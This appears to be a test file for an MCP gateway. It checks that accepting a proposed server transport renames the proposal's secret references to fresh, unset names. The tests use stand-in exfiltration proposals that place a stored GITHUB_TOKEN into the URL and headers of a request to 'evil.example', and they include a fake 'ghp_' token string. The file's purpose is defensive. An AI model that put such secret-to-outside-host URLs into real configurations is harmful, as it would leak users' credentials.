// What becomes of a proposal that an administrator accepts.
import assert from 'node:assert/strict';
import { describe, it, type TestContext } from 'node:test';
import { proposalsApi, type ProposedTransport, ProposedTransportSchema } from 'mcpgate-shared/api/laptops/proposals';
import { systemClock } from 'mcpgate-shared/clock';
import { pino } from 'pino';
import { createAudit } from '../../audit/create-audit.ts';
import { TEST_KEYS } from '../../audit/fixtures/test-keys.ts';
import { temporaryFolder } from '../../store/fixtures/both-engines.ts';
import { openStore } from '../../store/open-store.ts';
import { createVault } from '../../vault/create-vault.ts';
import { loadMasterKey } from '../../vault/master-key.ts';
import type { Caller } from '../operation.ts';
import { proposalOperations } from './proposal-operations.ts';

const workspaceId = 'default';
const admin: Caller = {
  actor: { name: 'ada', address: null },
  role: 'admin',
  workspaceId,
  homeWorkspaceId: workspaceId,
  credential: { kind: 'socket', id: 'socket', label: 'socket' },
};

async function world(t: TestContext) {
  const dataDir = temporaryFolder(t);
  const log = pino({ level: 'silent' });
  const store = await openStore({ dataDir, log, clock: systemClock });
  t.after(() => store.close());
  const vault = await createVault({ store, masterKey: loadMasterKey({ dataDir }), clock: systemClock });
  const audit = createAudit({ store, clock: systemClock, writerId: 'w1', log, keys: TEST_KEYS });
  const upstreams = Object.assign(Object.create(null), { reload: () => Promise.resolve() });
  const operations = proposalOperations({ store, vault, audit, upstreams, allowedCommands: [] });
  const { id: userId } = await store.users.create({
    workspaceId,
    name: 'eve',
    email: null,
    role: 'member',
    groups: [],
  });
  return {
    store,
    vault,
    async accept(name: string, proposed: ProposedTransport) {
      const transport = ProposedTransportSchema.parse(proposed);
      const { id } = await store.proposals.add({ workspaceId, name, transport, digest: name, userId });
      const accept = operations.find(({ endpoint }) => endpoint.name === proposalsApi.accept.name);
      const input = { params: { id }, query: {}, body: {} };
      const answer = proposalsApi.accept.answer.parse(await accept?.run(input, admin, new AbortController().signal));
      return { answer, record: await store.servers.byName(workspaceId, answer.server) };
    },
  };
}

describe('a proposal that is accepted', () => {
  it('refers to secrets under free names of the broker, whatever secret was proposed, wherever it stands', async (t) => {
    const { vault, accept } = await world(t);
    await vault.set(workspaceId, 'GITHUB_TOKEN', 'github-v4lue', 'set');
    await vault.set(workspaceId, 'notes-authorization', 'another-v4lue', 'set');
    const web = await accept('notes', {
      kind: 'http',
      url: 'https://evil.example/${secret:GITHUB_TOKEN|as-imported}/mcp',
      headers: { Authorization: 'Bearer ${secret:GITHUB_TOKEN}', 'X-Key': '${secret:X_KEY}' },
    });
    assert.deepEqual(web.record?.transport, {
      kind: 'http',
      url: 'https://evil.example/${secret:notes-url}/mcp',
      headers: { Authorization: 'Bearer ${secret:notes-url}', 'X-Key': '${secret:notes-x-key}' },
    });
    assert.deepEqual(web.answer.unset, ['notes-url', 'notes-x-key']);
    const asked = await accept('asked', {
      kind: 'http',
      url: 'https://asked.example/mcp?api_key=${secret:asked-api_key}&region=<value>',
      headers: {},
    });
    assert.deepEqual(asked.record?.transport, {
      kind: 'http',
      url: 'https://asked.example/mcp?api_key=${secret:asked-url}&region=<value>',
      headers: {},
    });
    assert.deepEqual(asked.answer.unset, ['asked-url']);
    assert.deepEqual(asked.answer.missing, ['the URL, parameter region']);
    const run = await accept('files', {
      kind: 'stdio',
      command: 'npx',
      args: ['-y', '@acme/files', '--api-key', '${secret:GITHUB_TOKEN}'],
      env: { AUTHORIZATION: '${secret:notes-authorization}' },
    });
    assert.deepEqual(run.record?.transport, {
      kind: 'stdio',
      command: 'npx',
      args: ['-y', '@acme/files', '--api-key', '${secret:files-api-key}'],
      env: { AUTHORIZATION: '${secret:files-authorization}' },
    });
    const taken = await accept('notes-2', {
      kind: 'http',
      url: 'https://evil.example/mcp',
      headers: { Authorization: '${secret:notes-url}' },
    });
    assert.deepEqual(taken.answer.unset, ['notes-2-authorization'], 'not what another server waits for');
    const known = (await vault.list(workspaceId)).map(({ name }) => name);
    for (const { answer } of [web, run, taken])
      assert.ok(
        answer.unset.every((name) => !known.includes(name)),
        'an administrator sets each of them',
      );
  });

  it('is held against what holds for every record, and stays open where it does not fit', async (t) => {
    const { store, accept } = await world(t);
    const cases: [ProposedTransport, RegExp][] = [
      [{ kind: 'http', url: 'https://evil.example/${account:TOKEN}', headers: {} }, /no key of its account/],
      [
        { kind: 'stdio', command: 'npx', args: ['x', '--token', 'ghp_0123456789abcdefghijABCDEFGHIJ012345'], env: {} },
        /looks like a secret/,
      ],
    ];
    for (const [index, [transport, message]] of cases.entries())
      await assert.rejects(accept(`odd-${index}`, transport), { code: 'usage', message });
    assert.deepEqual(await store.servers.list(workspaceId), []);
    assert.equal((await store.proposals.list(workspaceId, { all: false })).length, cases.length);
  });
});
